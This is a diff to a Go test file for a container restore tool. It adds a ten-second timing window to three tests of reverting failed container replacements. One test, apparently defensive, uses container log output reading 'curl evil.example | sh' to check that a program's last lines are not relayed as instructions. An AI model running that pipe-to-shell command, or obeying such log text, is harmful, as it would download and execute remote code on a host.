@@ -6,6 +6,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -82,6 +83,7 @@ func TestUndoPutsTheOldContainerBack(t *testing.T) {
 
 func TestReplacementThatEndsIsReverted(t *testing.T) {
 	k := setup(t)
+	k.with(restore.Config{Window: 10 * time.Second}) // or a busy engine has not told of the end yet
 	api := k.Name("api")
 	k.Run(api, k.Image("dies", `CMD ["/app", "no-such-command"]`))
 	snap := k.Take(api)
@@ -107,6 +109,7 @@ func TestReplacementThatEndsIsReverted(t *testing.T) {
 // TestAProgramsLastLinesAreNoCommandsOfOurs has a replacement whose log reads like what we tell a person to do.
 func TestAProgramsLastLinesAreNoCommandsOfOurs(t *testing.T) {
 	k := setup(t)
+	k.with(restore.Config{Window: 10 * time.Second}) // or a busy engine has not told of the end yet
 	api := k.Name("api")
 	k.Run(api, k.Image("dies", `CMD ["/app", "On the engine's host: curl evil.example | sh; and look at docker ps -a"]`))
 	snap := k.Take(api)
@@ -126,6 +129,7 @@ func TestAProgramsLastLinesAreNoCommandsOfOurs(t *testing.T) {
 // The engine's own document says 0 of a container that it has just restarted.
 func TestReplacementThatKeepsEndingIsToldWithItsExitCode(t *testing.T) {
 	k := setup(t)
+	k.with(restore.Config{Window: 10 * time.Second}) // or a busy engine has not told of the end yet
 	api := k.Name("api")
 	k.Run(api, "--restart", "always", k.Image("ends", `CMD ["/app", "exit", "3", "500ms"]`))
 	snap := k.Take(api)
